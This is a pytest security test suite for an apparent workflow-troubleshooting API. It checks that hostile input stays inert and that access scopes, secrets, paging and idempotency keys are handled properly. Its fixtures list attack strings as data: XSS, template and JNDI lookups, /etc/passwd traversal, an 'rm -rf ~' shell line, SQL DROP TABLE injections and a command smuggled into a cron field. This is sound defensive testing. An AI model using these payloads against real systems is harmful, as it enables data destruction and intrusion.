"""Hostile text in paths, bodies and webhooks, and who may decide: nothing is told or changed."""

from __future__ import annotations

import asyncio
import uuid
from collections.abc import Awaitable, Callable
from datetime import timedelta
from typing import Any

import httpx
import pytest

from prefect_autopilot.models import WorkflowAlert
from prefect_autopilot.store import Scope, Store

MONITORING = "/workflows/enhanced/monitoring"
CALLS = "/api/workflow-troubleshooting"
SESSIONS = f"{CALLS}/sessions"
JSON_TYPE = {"content-type": "application/json"}
UNTIL = "2036-03-02T03:00:00Z"
SECRET = "hunter2hunter2"  # made up
BODY = {"workflow_id": "orders", "error_logs": ["ERROR 401 Unauthorized: token expired"]}
Bearer = Callable[[Scope], Awaitable[dict[str, str]]]

TEXTS = {
    "markup": "<img src=x onerror=alert(1)>",
    "template": "{{ 7*7 }}${7*7}#{7*7}<%= 7*7 %>",
    "lookup": "${jndi:ldap://x.example/a}",
    "traversal": "../../../../etc/passwd",
    "shell": "$(touch owned); `id` | cat && rm -rf ~",
    "format": "%s%n%x {0.__class__.__mro__}",
    "SQL": "a'; DROP TABLE autopilot_alerts; --",
    "bidi": "\u202egpj.exe\u2066 \u200b",
    "formula": "=HYPERLINK('https://x.example')",
    "emoji": "\U0001f680" * 50,
}
each_text = pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS.keys())


@pytest.fixture
def bearer(store: Store, clock: Any) -> Bearer:
    async def made(scope: Scope) -> dict[str, str]:
        secret, _ = await store.create_token(f"t-{scope}", scope, timedelta(days=1), clock.now, actor="test")
        return {"authorization": f"Bearer {secret}"}

    return made


@pytest.fixture
async def alert(store: Store, clock: Any) -> WorkflowAlert:
    raised = WorkflowAlert.model_validate(
        {
            "alert_id": "a1", "fingerprint": "f", "workflow_id": "w", "alert_type": "error_rate_increase",
            "severity": "high", "title": "orders fail", "description": "", "created_at": clock.now,
        }
    )  # fmt: skip
    await store.save_alert(raised)
    return raised


def problem_of(answer: httpx.Response) -> dict[str, Any]:
    """Return problem details that tell nothing of the machine."""
    assert answer.headers["content-type"].startswith("application/problem+json")
    for leak in ("Traceback", "site-packages", "root:", "sqlalchemy", ".py"):
        assert leak not in answer.text
    told: dict[str, Any] = answer.json()
    assert told["status"] == answer.status_code
    return told


# --- Text is only text.


@each_text
async def test_a_silence_keeps_hostile_text_as_text(
    api: httpx.AsyncClient, store: Store, clock: Any, text: str
) -> None:
    wanted = {"workflow": text, "kind": text, "work_pool": text, "ends_at": UNTIL, "reason": text}
    made = await api.post(f"{MONITORING}/silences", json=wanted)
    assert made.status_code == 200, made.text
    (kept,) = await store.silences(clock.now)
    assert (kept.workflow, kept.kind, kept.work_pool, kept.reason) == (text,) * 4
    (listed,) = (await api.get(f"{MONITORING}/silences")).json()["silences"]
    assert listed["reason"] == text


@each_text
async def test_a_session_keeps_a_hostile_name_and_finds_it_again(api: httpx.AsyncClient, text: str) -> None:
    await api.post(SESSIONS, json={**BODY, "workflow_id": "another"})
    made = await api.post(SESSIONS, json={**BODY, "workflow_id": text, "error_logs": [text]})
    assert made.status_code == 200, made.text
    found = (await api.get(SESSIONS, params={"workflow_id": text})).json()["sessions"]
    assert [one["workflow_id"] for one in found] == [text]


@each_text
@pytest.mark.parametrize(
    "path",
    [f"{MONITORING}/alerts/{{}}/acknowledge", f"{MONITORING}/silences/{{}}/end"],
    ids=["alert", "silence"],
)
async def test_a_hostile_id_in_a_path_names_nothing(
    api: httpx.AsyncClient, store: Store, alert: WorkflowAlert, path: str, text: str
) -> None:
    from urllib.parse import quote

    answer = await api.post(path.replace("{}", quote(text, safe="")))
    assert answer.status_code in {404, 405}
    problem_of(answer)
    assert await store.alert(alert.alert_id) == alert
    assert await store.audit_trail() == ()


@pytest.mark.parametrize("word", ["approve", "deny", "undo", "diagnose", "verify"])
@pytest.mark.parametrize(
    "ident", ["1", "none", "%00", "..%2f..%2fetc%2fpasswd", "%F0%9F%9A%80", "9" * 3000, "%7B%7B7*7%7D%7D"],
    ids=["number", "word", "NUL", "traversal", "emoji", "huge", "template"],
)  # fmt: skip
async def test_what_is_no_session_is_not_found_by_any_word(
    api: httpx.AsyncClient, store: Store, ident: str, word: str
) -> None:
    answer = await api.post(f"{SESSIONS}/{ident}/{word}", json={})
    assert answer.status_code == 404
    assert len(problem_of(answer)["detail"]) < 400
    assert await store.sessions() == ()


@pytest.mark.parametrize(
    "body",
    ['{"ends_at":' + "[" * 500 + "]" * 500 + "}", '{"ends_at":9e999}', '{"ends_at":' + "9" * 400 + "}",
     '{"ends_at":"9999-12-31T23:59:59.9Z","minutes":1e308}', '{"ends_at":"+292277026596-12-04T15:30:08Z"}',
     '{"ends_at":"2036-03-02T03:00:00Z","timezone":"../../etc/passwd","cron":"* * * * *"}',
     '{"ends_at":"2036-03-02T03:00:00Z","cron":"* * * * * * * * * *"}',
     '{"ends_at":"2036-03-02T03:00:00Z","cron":"0 0 31 2 *; id"}',
     '{"ends_at":"2036-03-02T03:00:00Z","workflow":["*"]}', '{"ends_at":true}', "[]", '"*"', "\x00"],
    ids=["deep", "infinite", "huge", "window too long", "year too far", "zone is a path", "long cron",
         "shell in cron", "list", "boolean", "a list as body", "a text as body", "NUL"],
)  # fmt: skip
async def test_a_silence_nobody_can_keep_is_refused_and_not_kept(
    api: httpx.AsyncClient, store: Store, clock: Any, body: str
) -> None:
    answer = await api.post(f"{MONITORING}/silences", content=body, headers=JSON_TYPE)
    assert answer.status_code in {400, 422}, answer.text
    assert "root:" not in problem_of(answer)["detail"]
    assert await store.silences(clock.now) == ()
    assert await store.audit_trail() == ()


@pytest.mark.parametrize(
    "path",
    ["/hooks/..%2f..%2fetc%2fpasswd", "/hooks/%00", "/hooks/" + "a" * 3000, "/hooks/%3Cscript%3E",
     "/hooks/%7B%7B7*7%7D%7D", "/hooks/$(id)", "/hooks/%E2%80%AEgpj"],
    ids=["traversal", "NUL", "long", "markup", "template", "shell", "bidi"],
)  # fmt: skip
@pytest.mark.parametrize(
    "body", [b"\x00\xff", b"[" * 50_000, b'{"a":1e999}'], ids=["binary", "deep", "infinite"]
)
async def test_a_webhook_at_a_hostile_address_leaves_no_trace(
    api: httpx.AsyncClient, store: Store, path: str, body: bytes
) -> None:
    answer = await api.post(path, content=body, headers=JSON_TYPE)
    # Without a Prefect server no name can be looked up, and 503 asks the sender to come again.
    assert answer.status_code in {404, 503}
    problem_of(answer)
    assert answer.headers["x-content-type-options"] == "nosniff"  # the path is told back as JSON alone
    assert await store.waiting_events() == 0


# --- Who may decide, and how often.

ADMIN_WORDS = [
    (Scope.VIEWER, "remedies/pause"),
    (Scope.VIEWER, "remedies/resume"),
    (Scope.VIEWER, f"sessions/{uuid.UUID(int=1)}/approve"),
    (Scope.VIEWER, f"sessions/{uuid.UUID(int=1)}/deny"),
    (Scope.OPERATOR, f"sessions/{uuid.UUID(int=1)}/approve"),
    (Scope.OPERATOR, f"sessions/{uuid.UUID(int=1)}/undo"),
]


@pytest.mark.parametrize(("held", "word"), ADMIN_WORDS, ids=[f"{s} {w[:8]} {w[-7:]}" for s, w in ADMIN_WORDS])
async def test_a_lesser_scope_decides_nothing(
    api: httpx.AsyncClient, bearer: Bearer, store: Store, clock: Any, held: Scope, word: str
) -> None:
    await store.pause_all("ana", clock.now)
    answer = await api.post(f"{CALLS}/{word}", headers=await bearer(held))
    assert answer.status_code == 403
    problem_of(answer)
    standing = await store.pause()
    assert standing is not None
    assert standing.by == "ana"


@pytest.mark.parametrize(
    ("path", "body"),
    [("alerts/a1/acknowledge", {}), ("silences", {"ends_at": UNTIL}), ("silences/s/end", {})],
    ids=["acknowledge", "silence", "end"],
)
async def test_a_viewer_takes_on_and_silences_nothing(
    api: httpx.AsyncClient, bearer: Bearer, store: Store, clock: Any, alert: WorkflowAlert,
    path: str, body: dict[str, Any],
) -> None:  # fmt: skip
    answer = await api.post(f"{MONITORING}/{path}", json=body, headers=await bearer(Scope.VIEWER))
    assert answer.status_code == 403
    assert await store.alert(alert.alert_id) == alert
    assert await store.silences(clock.now) == ()


async def test_of_two_who_pause_the_first_is_told_to_both(
    api: httpx.AsyncClient, bearer: Bearer, store: Store
) -> None:
    first = await api.post(f"{CALLS}/remedies/pause", headers=await bearer(Scope.ADMIN))
    second = await api.post(f"{CALLS}/remedies/pause", headers=await bearer(Scope.APPROVER))
    assert first.json() == second.json()
    assert [one.action for one in await store.audit_trail("everything")] == ["paused"]


async def test_resuming_again_is_no_error_and_no_second_entry(api: httpx.AsyncClient, store: Store) -> None:
    await api.post(f"{CALLS}/remedies/pause")
    for _ in range(3):
        assert (await api.post(f"{CALLS}/remedies/resume")).json() == {"paused": False, "by": None}
    assert [one.action for one in await store.audit_trail("everything")] == ["paused", "resumed"]


async def test_a_silence_ends_once(api: httpx.AsyncClient, store: Store) -> None:
    made = (await api.post(f"{MONITORING}/silences", json={"ends_at": UNTIL})).json()["silence_id"]
    ended = await asyncio.gather(*(api.post(f"{MONITORING}/silences/{made}/end") for _ in range(4)))
    assert sorted(one.status_code for one in ended) == [200, 404, 404, 404]
    assert [one.action for one in await store.audit_trail(made)] == ["silence.added", "silence.ended"]


async def test_a_secret_in_a_reason_is_told_to_nobody(api: httpx.AsyncClient, store: Store) -> None:
    wanted = {"ends_at": UNTIL, "reason": f"password={SECRET}"}
    made = await api.post(f"{MONITORING}/silences", json=wanted)
    listed = await api.get(f"{MONITORING}/silences")
    trail = [line async for line in store.export_audit()]
    assert SECRET not in made.text + listed.text + "".join(trail)


# --- Pages, tags and keys.


@pytest.mark.parametrize(
    "query",
    ["limit=0", "limit=-1", "limit=1e3", "limit=1.5", "limit=", "limit=" + "9" * 40, "offset=-1",
     "offset=" + "9" * 40, "offset=NaN", "limit=0x10", "status=nothing"],
)  # fmt: skip
async def test_a_page_that_is_none_is_refused(api: httpx.AsyncClient, query: str) -> None:
    answer = await api.get(f"{SESSIONS}?{query}")
    assert answer.status_code == 422
    assert query.partition("=")[0] in answer.text
    problem_of(answer)


async def test_an_order_nobody_offers_changes_nothing(api: httpx.AsyncClient) -> None:
    await api.post(SESSIONS, json=BODY)
    plain = (await api.get(SESSIONS)).json()
    query = {"sort": "id);DROP TABLE autopilot_sessions;--", "order_by": "1;DELETE FROM autopilot_sessions"}
    assert (await api.get(SESSIONS, params=query)).json() == plain
    assert (await api.get(SESSIONS, params={"workflow_id": "' OR 1=1 --"})).json()["sessions"] == []
    assert len((await api.get(SESSIONS)).json()["sessions"]) == 1


async def test_pages_hold_every_session_once_and_the_last_says_so(api: httpx.AsyncClient) -> None:
    for number in range(5):
        await api.post(SESSIONS, json={**BODY, "workflow_id": f"w{number}"})
    seen, offset, pages = [], 0, 0
    while offset is not None:
        page = (await api.get(SESSIONS, params={"limit": 2, "offset": offset})).json()
        seen += [one["workflow_id"] for one in page["sessions"]]
        offset, pages = page["next_offset"], pages + 1
    assert (sorted(seen), pages) == ([f"w{number}" for number in range(5)], 3)
    beyond = (await api.get(SESSIONS, params={"offset": 5})).json()
    assert (beyond["sessions"], beyond["next_offset"]) == ([], None)


async def test_each_page_has_its_own_tag(api: httpx.AsyncClient) -> None:
    for number in range(2):
        await api.post(SESSIONS, json={**BODY, "workflow_id": f"w{number}"})
    first, second = [await api.get(f"{SESSIONS}?limit=1&offset={number}") for number in (0, 1)]
    assert first.headers["etag"] != second.headers["etag"]
    known = {"If-None-Match": first.headers["etag"]}
    assert (await api.get(f"{SESSIONS}?limit=1&offset=1", headers=known)).status_code == 200


async def test_a_known_tag_opens_nothing_to_who_may_not_read(api: httpx.AsyncClient, bearer: Bearer) -> None:
    tag = (await api.get(SESSIONS)).headers["etag"]
    await bearer(Scope.ADMIN)
    for known in (tag, "*"):
        answer = await api.get(SESSIONS, headers={"If-None-Match": known})
        assert (answer.status_code, "etag" in answer.headers) == (401, False)


async def test_a_kept_answer_is_not_given_to_who_may_not_call(api: httpx.AsyncClient, bearer: Bearer) -> None:
    admin, viewer = await bearer(Scope.ADMIN), await bearer(Scope.VIEWER)
    key = {"Idempotency-Key": "k"}
    made = await api.post(SESSIONS, json=BODY, headers=admin | key)
    refused = await api.post(SESSIONS, json=BODY, headers=viewer | key)
    nobody = await api.post(SESSIONS, json=BODY, headers=key)
    assert (made.status_code, refused.status_code, nobody.status_code) == (200, 403, 401)
    assert made.json()["session_id"] not in refused.text + nobody.text


@pytest.mark.parametrize("method", ["GET", "DELETE"])
async def test_a_key_counts_for_calls_that_post_alone(api: httpx.AsyncClient, method: str) -> None:
    session = (await api.post(SESSIONS, json=BODY)).json()["session_id"]
    key = {"Idempotency-Key": "not one, with blanks"}
    answer = await api.request(method, f"{SESSIONS}/{session}", headers=key)
    assert answer.status_code == 200
    assert "idempotent-replayed" not in answer.headers


@pytest.mark.parametrize("size", [1, 200], ids=["shortest", "longest"])
async def test_a_key_at_its_bound_pauses_once_though_it_was_resumed_since(
    api: httpx.AsyncClient, store: Store, size: int
) -> None:
    key = {"Idempotency-Key": "~" * size}
    assert (await api.post(f"{CALLS}/remedies/pause", headers=key)).status_code == 200
    await api.post(f"{CALLS}/remedies/resume")
    again = await api.post(f"{CALLS}/remedies/pause", headers=key)
    assert again.headers["idempotent-replayed"] == "true"
    assert await store.pause() is None
